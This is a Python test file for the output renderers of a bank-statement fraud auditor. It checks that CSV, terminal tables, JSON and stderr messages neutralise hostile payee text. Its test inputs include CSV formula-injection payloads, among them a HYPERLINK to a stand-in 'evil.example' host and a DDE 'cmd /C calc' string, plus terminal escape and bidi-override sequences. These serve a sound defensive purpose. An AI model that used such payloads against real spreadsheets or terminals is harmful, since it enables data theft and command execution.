"""Renderers: statement text (partly written by strangers) must come out inert everywhere.

Findings and scan results are built by hand, so these tests cover the renderers alone:
CSV (formula injection), the Rich tables (markup and terminal control codes), JSON (schema
and round-trip), the summary line and the stderr messages.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import unicodedata
from dataclasses import replace
from datetime import date
from unittest import mock

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console

from auditor.models import FileReport, Finding, Reason, Refund, ScanResult, Severity, Suggestion
from auditor.render import console, json_dump, report_messages
from auditor.render.findings import findings_table
from auditor.render.findings_csv import CSV_COLUMNS, write_csv
from auditor.render.safety import printable
from auditor.render.messages import summary_line
from auditor.render.table import identify_table

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
NUMERIC_COLUMNS = ("line", "amount", "score")
TEXT_COLUMNS = tuple(c for c in CSV_COLUMNS if c not in NUMERIC_COLUMNS)

FIRST_SEEN = Reason("first-seen", Severity.high, "first debit to this wallet in 6 months",
                    "このサービスへの半年ぶりの出金")
ODD_HOUR = Reason("odd-hour", Severity.medium, "made between 01:00 and 05:00",
                  "深夜（1時〜5時）の出金")
SMALL = Reason("amount-spike", Severity.low, "larger than usual", "いつもより高額")

# Terminal control codes, bidi overrides and other invisible characters a payee might send.
HOSTILE_CHARS = [
    "\x00", "\x07", "\x08", "\x0b", "\x0c", "\r", "\n", "\x1b", "\x7f",
    "\x9b",  # C1 CSI
    "\u200b", "\u200e", "\u200f",  # zero-width space, LRM, RLM
    "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",  # bidi embeddings and overrides
    "\u2066", "\u2067", "\u2068", "\u2069",  # bidi isolates
    "\u2028", "\u2029", "\ufeff",
]


def finding(description: str = "ﾃﾞｲｰﾊﾞﾗｲ ﾁｬｰｼﾞ", *, amount: int = 1234, score: int = 70,
            severity: Severity = Severity.high, line: int = 7, file: str = "rakuten.csv",
            time: str | None = "02:13:45", wallet: str | None = "paypay",
            reasons: tuple[Reason, ...] = (FIRST_SEEN,), day: date = date(2024, 3, 9)) -> Finding:
    return Finding(file=file, line=line, date=day, time=time, amount=amount,
                   description=description, wallet=wallet, score=score, severity=severity,
                   reasons=reasons)


def report(path: str = "rakuten.csv", **kwargs: object) -> FileReport:
    defaults: dict[str, object] = dict(
        layout="rakuten", bank="楽天銀行", encoding="cp932", rows=42,
        debit_total=123456, credit_total=7890, period=(date(2024, 1, 1), date(2024, 3, 31)),
        order="oldest-first",
    )
    defaults.update(kwargs)
    return FileReport(path=path, **defaults)  # type: ignore[arg-type]


def result(*findings: Finding, files: tuple[FileReport, ...] | None = None) -> ScanResult:
    return ScanResult(files=(report(),) if files is None else files, findings=tuple(findings))


def csv_rows(scan: ScanResult, lang: str = "en") -> list[list[str]]:
    out = io.StringIO()
    write_csv(scan, out, lang)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


def csv_records(scan: ScanResult, lang: str = "en") -> list[dict[str, str]]:
    header, *rows = csv_rows(scan, lang)
    assert tuple(header) == CSV_COLUMNS
    return [dict(zip(header, row, strict=True)) for row in rows]


def starts_with_trigger(cell: str) -> bool:
    return cell.lstrip().startswith(TRIGGERS)


def csv_shown(description: str) -> str:
    """A descriptor as CSV holds it: controls and invisibles as \\uXXXX, then the ' guard."""
    shown = printable(description)
    return "'" + shown if starts_with_trigger(shown) else shown


def render_table(scan: ScanResult, lang: str = "en", width: int = 160) -> str:
    out = io.StringIO()
    Console(file=out, width=width, color_system=None).print(findings_table(scan, lang))
    return out.getvalue()


def render_identify(reports: list[FileReport]) -> str:
    out = io.StringIO()
    Console(file=out, width=200, color_system=None).print(identify_table(reports, "en"))
    return out.getvalue()


def table_cells(text: str, needle: str) -> list[str]:
    """The cells of the first table line that contains needle (cells are two spaces apart)."""
    line = next(line for line in text.splitlines() if needle in line)
    return re.split(r"(?<=\S)  +(?=\S)", line)


def json_text(scan: ScanResult, lang: str = "en") -> str:
    out = io.StringIO()
    json_dump(scan.to_dict(lang), out)
    return out.getvalue()


def messages(reports: list[FileReport]) -> str:
    err = io.StringIO()
    report_messages(reports, err)
    return err.getvalue()


# --- CSV ---------------------------------------------------------------------------------


@pytest.mark.parametrize("description", [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1", "+81-3-1234-5678", "-2+3", "@SUM(A1:A9)",
    "＝１＋１", "＋ペイペイ", "－１", "＠ｃｍｄ",
    "  =1", "\u3000=1", " \u3000 +cmd|' /C calc'!A0", "\u3000\u3000＠x",
    "\u00a0=1", "\u2002\u00a0+1", "\u205f@x",  # NBSP, EN SPACE, MEDIUM MATHEMATICAL SPACE
])
def test_csv_prefixes_formula_triggers(description: str) -> None:
    [record] = csv_records(result(finding(description)))
    assert record["description"] == "'" + description
    assert not starts_with_trigger(record["description"])


@pytest.mark.parametrize(("description", "shown"), [
    ("\t=1", "\\u0009=1"), ("\r\n=1", "\\u000d\\u000a=1"), ("\tPAYPAY", "\\u0009PAYPAY"),
    ("   \t=1", "   \\u0009=1"), (" \u3000\n-1", " \u3000\\u000a-1"),
    ("\u200b=1", "\\u200b=1"), ("\ufeff+1", "\\ufeff+1"), ("\u3164@x", "\\u3164@x"),
    ("ﾍﾟｲﾍﾟｲ\x1b[2J", "ﾍﾟｲﾍﾟｲ\\u001b[2J"), ("ﾍﾟｲ\ufe00ﾍﾟｲ", "ﾍﾟｲ\\ufe00ﾍﾟｲ"),
])
def test_csv_shows_controls_and_invisibles_as_text(description: str, shown: str) -> None:
    """A raw ESC reached the CSV; a ZWSP or BOM before = hid the formula from the check.
    Shown as \\uXXXX, as the table shows them, the cell starts with a backslash: inert."""
    [record] = csv_records(result(finding(description)))
    assert record["description"] == shown
    assert not starts_with_trigger(record["description"])


@pytest.mark.parametrize("description", [
    "ﾃﾞｲｰﾊﾞﾗｲ ﾁｬｰｼﾞ", "PAYPAY", "1+1", "a=b", "ＲＴ　ペイペイ", "'=already quoted", "",
    " PAYPAY", "\u3000ペイペイ", "(=)",
])
def test_csv_leaves_harmless_text_alone(description: str) -> None:
    [record] = csv_records(result(finding(description)))
    assert record["description"] == description


@pytest.mark.parametrize("cell", ["file", "time", "wallet", "rules", "reasons"])
def test_csv_guards_every_text_column(cell: str) -> None:
    hostile = "=cmd()"
    if cell in ("rules", "reasons"):
        made = finding(reasons=(Reason(hostile, Severity.high, hostile, hostile),))
    else:
        made = finding(**{cell: hostile})
    [record] = csv_records(result(made))
    assert record[cell] == "'" + hostile


@pytest.mark.parametrize("amount", [0, 1, 1234, 10_000_000])
def test_csv_numeric_cells_stay_plain_numbers(amount: int) -> None:
    made = finding("=evil", amount=amount, line=1234, score=100)
    [record] = csv_records(result(made))
    assert record["amount"] == str(amount)
    assert record["line"] == "1234"
    assert record["score"] == "100"
    for column in NUMERIC_COLUMNS:
        assert re.fullmatch(r"\d+", record[column])


def test_csv_columns_and_values() -> None:
    made = finding("ﾍﾟｲﾍﾟｲ", reasons=(FIRST_SEEN, ODD_HOUR), score=100, wallet=None, time=None)
    [en] = csv_records(result(made), "en")
    assert en == {
        "file": "rakuten.csv", "line": "7", "date": "2024-03-09", "time": "", "amount": "1234",
        "description": "ﾍﾟｲﾍﾟｲ", "wallet": "", "score": "100", "severity": "high",
        "rules": "first-seen;odd-hour",
        "reasons": "first debit to this wallet in 6 months / made between 01:00 and 05:00",
        "answer": "", "refund": "", "account": "",
    }
    [ja] = csv_records(result(made), "ja")
    assert ja["reasons"] == "このサービスへの半年ぶりの出金 / 深夜（1時〜5時）の出金"
    assert ja["severity"] == "high"  # the machine value, not the translated word


@pytest.mark.parametrize("description", [
    'ｶ)ｱﾙﾌｧ,"ﾍﾞｰﾀ"',
    'line one\nline two\r\nline three\rend',
    '"quoted", and, commas',
    '=A1,"B"\nC',
    '-"x",\r\n@y',
    ",,,",
    '"',
])
def test_csv_round_trips_commas_quotes_and_newlines(description: str) -> None:
    records = csv_records(result(finding(description), finding("PAYPAY", line=8)))
    assert len(records) == 2
    assert records[0]["description"] == csv_shown(description)
    assert records[1]["description"] == "PAYPAY"
    assert records[1]["line"] == "8"


@pytest.mark.parametrize("description", [
    "\r=1", "\rPAYPAY", "PAYPAY\r=cmd|' /C calc'!A0", "a\rb",
])
def test_csv_bare_carriage_return_stays_in_its_cell(description: str) -> None:
    rows = csv_rows(result(finding(description)))
    assert len(rows) == 2
    assert dict(zip(CSV_COLUMNS, rows[1], strict=True))["description"] == csv_shown(description)


def test_csv_with_no_findings_is_only_the_header() -> None:
    assert csv_rows(result()) == [list(CSV_COLUMNS)]


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(), max_size=4))
def test_csv_property_no_cell_starts_with_a_trigger(descriptions: list[str]) -> None:
    scan = result(*(finding(text, line=index + 2) for index, text in enumerate(descriptions)))
    header, *rows = csv_rows(scan)
    assert tuple(header) == CSV_COLUMNS
    assert len(rows) == len(descriptions)
    for text, row in zip(descriptions, rows, strict=True):
        record = dict(zip(header, row, strict=True))
        for column in TEXT_COLUMNS:
            assert not starts_with_trigger(record[column]), (column, record[column])
        for column in NUMERIC_COLUMNS:
            assert re.fullmatch(r"\d+", record[column])
        assert record["description"] == csv_shown(text)
        assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in record["description"])


# --- Rich findings table -------------------------------------------------------------------


@pytest.mark.parametrize("description", [
    "[bold red]PWNED[/bold red]",
    "[link=http://x]y[/link]",
    "[/]",
    "[red]unclosed",
    ":warning: :smile:",
])
def test_table_shows_markup_literally(description: str) -> None:
    scan = result(finding(description))
    for text in (render_table(scan), _through_console(scan)):
        assert description in text
        assert "\x1b" not in text


def _through_console(scan: ScanResult, lang: str = "en") -> str:
    """The table as the command prints it, with room for a descriptor on one line."""
    out = io.StringIO()
    with mock.patch.dict(os.environ, {"COLUMNS": "200"}):
        console(out).print(findings_table(scan, lang))
    return out.getvalue()


@pytest.mark.parametrize(("description", "shown"), [
    ("\x1b[2JCLEARED", "\\u001b[2JCLEARED"),
    ("\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\", "\\u001b]8;;http://evil\\u001b\\click"),
    ("PAY\u202eLAPYAP", "PAY\\u202eLAPYAP"),
    ("\u2066ペイペイ\u2069", "\\u2066ペイペイ\\u2069"),
    ("a\x9b2Jb", "a\\u009b2Jb"),
    ("one\ntwo\rthree", "one\\u000atwo\\u000dthree"),
])
def test_table_escapes_terminal_controls(description: str, shown: str) -> None:
    scan = result(finding(description))
    for text in (render_table(scan), _through_console(scan)):
        assert shown in text
        for char in description:
            if not char.isprintable() and char != "\n":  # newlines are the table's own layout
                assert char not in text


@pytest.mark.parametrize("char", HOSTILE_CHARS)
def test_table_never_emits_a_control_character_raw(char: str) -> None:
    scan = result(finding(f"before{char}after"))
    text = render_table(scan)
    if char != "\n":  # the table's own line breaks
        assert char not in text
    assert f"before\\u{ord(char):04x}after" in text


def test_table_escapes_controls_in_reasons_too() -> None:
    reason = Reason("odd", Severity.high, "odd \x1b[31m\u202e", "変 \x1b[31m\u202e")
    for lang in ("en", "ja"):
        text = render_table(result(finding(reasons=(reason,))), lang)
        assert "\x1b" not in text and "\u202e" not in text
        assert "\\u001b[31m\\u202e" in text


def test_table_right_aligns_amounts_as_yen() -> None:
    scan = result(finding("A", amount=5, line=1), finding("B", amount=1234, line=2),
                  finding("C", amount=1_234_567, line=3))
    text = render_table(scan)
    rows = [next(line for line in text.splitlines() if f"  {name}  " in line) for name in "ABC"]
    ends = {row.index(shown) + len(shown)
            for row, shown in zip(rows, ("¥5", "¥1,234", "¥1,234,567"), strict=True)}
    assert len(ends) == 1  # every amount ends where the widest does
    for row in rows:
        assert table_cells(row, "2024")[2] in "ABC"  # descriptions stay left-aligned


@pytest.mark.parametrize(("lang", "title", "headers", "words"), [
    ("en", "Debits you may not have made",
     ("Date", "Time", "Description (as printed)", "Wallet", "Amount", "Severity"),
     ("high (90)", "medium (55)", "low (15)")),
    ("ja", "身に覚えのない可能性がある出金",
     ("日付", "時刻", "摘要（明細の表示）", "サービス", "金額", "重要度"),
     ("高 (90)", "中 (55)", "低 (15)")),
])
def test_table_headers_and_severity_words(lang: str, title: str, headers: tuple[str, ...],
                                          words: tuple[str, ...]) -> None:
    scan = result(finding("H", score=90, severity=Severity.high, reasons=(FIRST_SEEN,)),
                  finding("M", score=55, severity=Severity.medium, reasons=(ODD_HOUR,)),
                  finding("L", score=15, severity=Severity.low, reasons=(SMALL,)))
    text = render_table(scan, lang)
    assert text.splitlines()[0] == title
    assert tuple(table_cells(text, headers[0])) == headers
    for word in words:
        assert word in text
    for reason in (FIRST_SEEN, ODD_HOUR, SMALL):  # each on a line of its own, under its row
        assert f"\n  • {reason.text(lang)}\n" in text
    assert "2024-03-09" in text and "02:13:45" in text


def test_table_cells_for_missing_time_and_wallet() -> None:
    text = render_table(result(finding("X", time=None, wallet=None)))
    assert table_cells(text, "Date") == ["Date", "Description (as printed)", "Wallet", "Amount",
                                         "Severity"]  # no bank time: no column for it
    assert table_cells(text, "2024-03-09") == ["2024-03-09", "X", "?", "¥1,234", "high (70)"]


@pytest.mark.parametrize("description", [
    "Z" * 10_000, "ア" * 10_000, "qz " * 3_334, "\x1b" * 10_000, "\u202e" * 10_000,
])
@pytest.mark.parametrize("lang", ["en", "ja"])
def test_table_survives_very_long_descriptors(description: str, lang: str) -> None:
    text = render_table(result(finding(description)), lang)
    assert "¥1,234" in text
    assert "\x1b" not in text and "\u202e" not in text
    if description[0].isprintable():
        # Either all of it is shown (wrapped), or a cut is marked with an ellipsis.
        assert text.count(description[0]) == description.count(description[0]) or "…" in text
    else:
        assert f"\\u{ord(description[0]):04x}" in text


def test_table_with_no_findings_still_renders() -> None:
    text = render_table(result(), "ja")
    assert "日付" in text


# --- JSON ----------------------------------------------------------------------------------

FINDING_KEYS = ["file", "account", "line", "date", "time", "amount", "description", "wallet",
                "score", "severity", "rules", "reasons", "answer", "refund", "seen_in"]
FILE_KEYS = ["path", "layout", "bank", "account", "encoding", "rows", "rejected", "skipped", "debit_total",
             "credit_total", "period", "order", "balance_breaks", "notes", "error", "repeat_of"]
SUMMARY_KEYS = {"files", "failed", "repeats", "accounts", "findings", "at_risk", "low",
                "medium", "high", "hidden"}
HOSTILE_TEXT = ('[bold red]PWNED[/bold red] \x1b[2J\x1b]8;;http://evil\x1b\\ "q" \\ '
                + "".join(HOSTILE_CHARS) + " ＝ ﾍﾟｲﾍﾟｲ </script>")


def test_json_schema() -> None:
    files = (report(rejected=((12, "date not recognised in column 取引日"),),
                    skipped=((99, "note line after the table"),), balance_breaks=(20,),
                    notes=("dates have no year",)),
             FileReport(path="broken.csv", error="the file is empty"))
    scan = result(finding("ﾍﾟｲﾍﾟｲ", reasons=(FIRST_SEEN, ODD_HOUR), score=100),
                  finding("ﾗｸﾃﾝ", time=None, wallet=None, line=9, amount=300, score=15,
                          severity=Severity.low, reasons=(SMALL,)),
                  files=files)
    data = json.loads(json_text(scan))
    assert list(data) == ["schema", "files", "accounts", "findings", "suggestions", "summary"]
    assert data["schema"] == 2
    assert [list(entry) for entry in data["files"]] == [FILE_KEYS, FILE_KEYS]
    first_file, broken = data["files"]
    assert first_file["period"] == {"from": "2024-01-01", "to": "2024-03-31"}
    assert first_file["rejected"] == [{"line": 12, "reason": "date not recognised in column 取引日"}]
    assert first_file["skipped"] == [{"line": 99, "reason": "note line after the table"}]
    assert first_file["balance_breaks"] == [20]
    assert broken["error"] == "the file is empty" and broken["period"] is None
    for item in data["findings"]:
        assert list(item) == FINDING_KEYS
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", item["date"])
        assert item["time"] is None or re.fullmatch(r"\d{2}:\d{2}:\d{2}", item["time"])
        for key in ("line", "amount", "score"):
            assert type(item[key]) is int
        assert item["severity"] in ("low", "medium", "high")
        assert isinstance(item["rules"], list) and isinstance(item["reasons"], list)
        assert all(isinstance(value, str) for value in item["rules"] + item["reasons"])
    first, second = data["findings"]
    assert first == {
        "file": "rakuten.csv", "line": 7, "date": "2024-03-09", "time": "02:13:45",
        "amount": 1234, "description": "ﾍﾟｲﾍﾟｲ", "wallet": "paypay", "score": 100,
        "severity": "high", "rules": ["first-seen", "odd-hour"],
        "reasons": [FIRST_SEEN.en, ODD_HOUR.en], "answer": None, "refund": None,
        "account": None, "seen_in": [],
    }
    assert second["time"] is None and second["wallet"] is None
    assert set(data["summary"]) == SUMMARY_KEYS
    assert data["summary"] == {"files": 2, "failed": 1, "repeats": 0, "accounts": 0,
                               "findings": 2, "at_risk": 1234, "low": 1, "medium": 0, "high": 1,
                               "hidden": {"since": 0, "until": 0, "reported_before": 0}}


def test_json_reasons_follow_the_language() -> None:
    scan = result(finding(reasons=(FIRST_SEEN, ODD_HOUR)))
    ja = json.loads(json_text(scan, "ja"))["findings"][0]
    en = json.loads(json_text(scan, "en"))["findings"][0]
    assert ja["reasons"] == [FIRST_SEEN.ja, ODD_HOUR.ja]
    assert en["reasons"] == [FIRST_SEEN.en, ODD_HOUR.en]
    assert ja["severity"] == en["severity"] == "high"
    assert ja["rules"] == en["rules"] == ["first-seen", "odd-hour"]


def test_json_round_trips_hostile_text_exactly() -> None:
    hostile_report = FileReport(path=HOSTILE_TEXT, error=HOSTILE_TEXT, notes=(HOSTILE_TEXT,))
    scan = result(finding(HOSTILE_TEXT, file=HOSTILE_TEXT), files=(hostile_report,))
    text = json_text(scan)
    data = json.loads(text)
    assert data["findings"][0]["description"] == HOSTILE_TEXT
    assert data["findings"][0]["file"] == HOSTILE_TEXT
    assert data["files"][0]["path"] == HOSTILE_TEXT
    assert data["files"][0]["notes"] == [HOSTILE_TEXT]
    # JSON escapes the C0 controls, so ESC, NUL, CR... never appear raw,
    for char in "\x00\x07\x08\x0b\x0c\r\x1b":
        assert char not in text
    assert "\\u001b[2J" in text
    # and every newline left in the output is layout between tokens, not data.
    assert json.loads(text.replace("\n", "")) == data
    assert "ﾍﾟｲﾍﾟｲ" in text  # non-ASCII text is kept readable


@pytest.mark.parametrize("char", ["\x7f", "\x9b", "\u202e", "\u2066", "\u2028"])
def test_json_output_has_no_raw_bidi_or_c1_controls(char: str) -> None:
    text = json_text(result(finding(f"PAY{char}PAY")))
    assert char not in text
    assert json.loads(text)["findings"][0]["description"] == f"PAY{char}PAY"


def test_json_is_stable() -> None:
    def build() -> ScanResult:
        return result(finding("ﾍﾟｲﾍﾟｲ", reasons=(FIRST_SEEN, ODD_HOUR)),
                      finding(HOSTILE_TEXT, line=9, time=None),
                      files=(report(notes=("b", "a")), FileReport(path="x.csv", error="bad")))

    first = json_text(build(), "ja").encode()
    assert json_text(build(), "ja").encode() == first
    scan = build()
    assert json_text(scan, "ja").encode() == json_text(scan, "ja").encode()
    assert first.endswith(b"}\n")
    assert first.startswith(b'{\n  "schema": 2,\n')


def test_json_with_nothing_found() -> None:
    data = json.loads(json_text(result(files=())))
    assert data == {"schema": 2, "files": [], "accounts": [], "findings": [], "suggestions": [],
                    "summary": {"files": 0, "failed": 0, "repeats": 0, "accounts": 0,
                                "findings": 0, "at_risk": 0,
                                "low": 0, "medium": 0, "high": 0,
                                "hidden": {"since": 0, "until": 0, "reported_before": 0}}}


# --- summary line ------------------------------------------------------------------------------


@pytest.mark.parametrize(("lang", "expected"), [
    ("en", "no suspicious debits found"), ("ja", "不審な出金は見つかりませんでした"),
])
def test_summary_line_without_findings(lang: str, expected: str) -> None:
    assert summary_line(result(), lang) == expected
    assert summary_line(result(files=()), lang) == expected


def _mixed() -> ScanResult:
    return result(finding(amount=5000, score=70, severity=Severity.high),
                  finding(amount=3000, score=40, severity=Severity.medium),
                  finding(amount=700, score=39, severity=Severity.low),
                  finding(amount=1_000_000, score=15, severity=Severity.low),
                  files=(report(), report("smbc.csv")))


@pytest.mark.parametrize(("lang", "expected"), [
    ("en", "2 file(s) checked (0 unreadable): 4 finding(s) (1 high, 1 medium, 2 low), "
           "¥8,000 at risk"),
    ("ja", "2ファイルを確認（読めなかったもの0）：検出4件（高1・中1・低2）、"
           "被害の可能性がある金額 ¥8,000"),
])
def test_summary_line_with_findings(lang: str, expected: str) -> None:
    assert summary_line(_mixed(), lang) == expected


@pytest.mark.parametrize(("lang", "expected"), [
    ("en", "3 file(s) checked (2 unreadable): 0 finding(s) (0 high, 0 medium, 0 low), ¥0 at risk"),
    ("ja", "3ファイルを確認（読めなかったもの2）：検出0件（高0・中0・低0）、"
           "被害の可能性がある金額 ¥0"),
])
def test_summary_line_reports_failed_files(lang: str, expected: str) -> None:
    files = (report(), FileReport(path="a.csv", error="the file is empty"),
             FileReport(path="b.csv", error="cannot decode"))
    assert summary_line(result(files=files), lang) == expected


def test_at_risk_counts_only_medium_or_higher() -> None:
    scan = _mixed()
    assert scan.at_risk() == 8000
    assert scan.summary()["at_risk"] == 8000
    only_low = result(finding(amount=9999, score=39, severity=Severity.low))
    assert only_low.at_risk() == 0
    assert summary_line(only_low, "en").endswith("¥0 at risk")
    only_medium = result(finding(amount=40, score=40, severity=Severity.medium))
    assert summary_line(only_medium, "en").endswith("¥40 at risk")


# --- stderr messages ---------------------------------------------------------------------------


def test_report_messages_say_path_lines_and_reasons_only() -> None:
    secret = "ｶ)ﾋﾐﾂ ﾉ ｼｭｳｷﾝﾆﾝ =HYPERLINK(x)"
    files = (report("in/rakuten.csv",
                    rejected=((12, "date not recognised in column 取引日"),
                              (15, "amount not a number in column 出金額")),
                    balance_breaks=(20, 31),
                    notes=("dates have no year: assumed the statement starts in 2024",)),
             FileReport(path="in/empty.csv", error="the file is empty"))
    scan = result(finding(secret), files=files)
    text = messages(list(scan.files))
    assert text.splitlines() == [
        "auditor: in/rakuten.csv: line 12: row rejected: date not recognised in column 取引日",
        "auditor: in/rakuten.csv: line 15: row rejected: amount not a number in column 出金額",
        "auditor: in/rakuten.csv: balance does not follow at line(s) 20, 31"
        " (a row may be missing or edited)",
        "auditor: in/rakuten.csv: note: dates have no year: assumed the statement starts in 2024",
        "auditor: in/empty.csv: the file is empty",
    ]
    assert "ﾋﾐﾂ" not in text and "HYPERLINK" not in text


def test_report_messages_cap_the_rejected_rows() -> None:
    rejected = tuple((line, "no amount in column 金額") for line in range(2, 11))
    text = messages([report("a.csv", rejected=rejected)])
    lines = text.splitlines()
    assert lines[:5] == [f"auditor: a.csv: line {n}: row rejected: no amount in column 金額"
                         for n in range(2, 7)]
    assert lines[5] == "auditor: a.csv: 4 more rejected rows (see --format json)"
    assert len(lines) == 6


def test_report_messages_quiet_for_a_clean_file() -> None:
    assert messages([report()]) == ""


def test_report_messages_escape_control_characters() -> None:
    header = "Withdrawal\x1b[2J\u202e"
    text = messages([report(
        "s.csv", rejected=((3, f"amount not a number in column {header}"),),
        notes=(f"unknown bank: read with the generic layout using columns withdrawal={header}",),
    )])
    assert "\x1b" not in text and "\u202e" not in text
    assert "\\u001b[2J\\u202e" in text


# --- identify table ----------------------------------------------------------------------------


def test_identify_table_renders_normal_and_failed_files() -> None:
    normal = report("in/rakuten.csv", rejected=((3, "x"), (4, "y")), balance_breaks=(9, 12, 15))
    failed = FileReport(path="in/empty.csv", error="the file is empty")
    text = render_identify([normal, failed])
    assert "Statements / 明細ファイル" in text
    assert table_cells(text, "Rejected") == [
        "File", "Rows", "Rejected", "Debits", "Credits", "Period", "Breaks"]
    cells = table_cells(text, "in/rakuten.csv")
    assert cells == ["in/rakuten.csv", "42", "2", "¥123,456", "¥7,890",
                     "2024-01-01 – 2024-03-31", "3"]
    assert "\n  Layout: rakuten (楽天銀行); Encoding: cp932\n" in text
    assert "\nin/empty.csv\n  error: the file is empty\n" in text


def test_identify_table_for_an_empty_statement_and_markup_in_paths() -> None:
    empty = FileReport(path="[bold]x[/bold].csv", layout="generic", bank="unknown bank",
                       encoding=None, rows=0, period=None)
    text = render_identify([empty])
    assert table_cells(text, "[bold]x[/bold].csv") == ["[bold]x[/bold].csv", "0", "0", "¥0",
                                                        "¥0", "0"]
    assert "\n  Layout: generic (unknown bank)\n" in text  # no encoding: an empty file


def test_identify_table_with_no_files() -> None:
    assert "File" in render_identify([])


def test_identify_table_escapes_control_characters_in_paths() -> None:
    text = render_identify([FileReport(path="evil\x1b[2J\u202e.csv", error="bad \x1b[31m")])
    assert "\x1b" not in text and "\u202e" not in text


# --- refunds and suggestions -------------------------------------------------------------------

REFUNDED = replace(finding(amount=5000, score=70, severity=Severity.high),
                   refund=Refund(line=12, date=date(2024, 3, 15)))


def test_a_refunded_finding_is_shown_and_never_at_risk() -> None:
    scan = result(REFUNDED, finding(amount=3000, score=40, severity=Severity.medium))
    assert scan.at_risk() == 3000 and scan.summary()["high"] == 1
    data = json.loads(json_text(scan))
    assert [f["refund"] for f in data["findings"]] == [{"line": 12, "date": "2024-03-15"}, None]
    assert data["summary"]["at_risk"] == 3000
    assert [r["refund"] for r in csv_records(scan)] == ["2024-03-15 line 12", ""]


@pytest.mark.parametrize(("lang", "shown"), [("en", "refunded on 2024-03-15 (line 12)"),
                                             ("ja", "返金済み：2024-03-15（12行目）")])
def test_the_table_says_a_finding_was_refunded(lang: str, shown: str) -> None:
    out = io.StringIO()
    console(out).print(findings_table(result(REFUNDED), lang))
    assert shown in out.getvalue()


SUGGESTED = Suggestion("paypay", "PayPay", "PayPay", 14, date(2020, 1, 5), date(2020, 12, 20))


def test_json_lists_the_suggestions() -> None:
    data = json.loads(json_text(replace(result(), suggestions=(SUGGESTED,))))
    assert data["suggestions"] == [{
        "wallet": "paypay", "command": "auditor allow paypay", "debits": 14,
        "first": "2020-01-05", "last": "2020-12-20", "files": 1,
        "message": "looks like yours: PayPay, 14 top-ups of everyday amounts from 2020-01-05 to "
                   "2020-12-20; only its bursts and spikes were flagged. If it is yours: "
                   "`auditor allow paypay`? If not, scan again with --allow and the wallets you "
                   "do use (or --allow none) to check every one",
    }]


def test_a_suggestion_seen_in_two_files_is_one() -> None:
    later = Suggestion("paypay", "PayPay", "PayPay", 6, date(2021, 1, 3), date(2021, 3, 1))
    merged = SUGGESTED.merged(later)
    assert (merged.debits, merged.first, merged.last, merged.files) == (
        20, date(2020, 1, 5), date(2021, 3, 1), 2)
    assert "`auditor allow paypay`" in merged.text("ja")
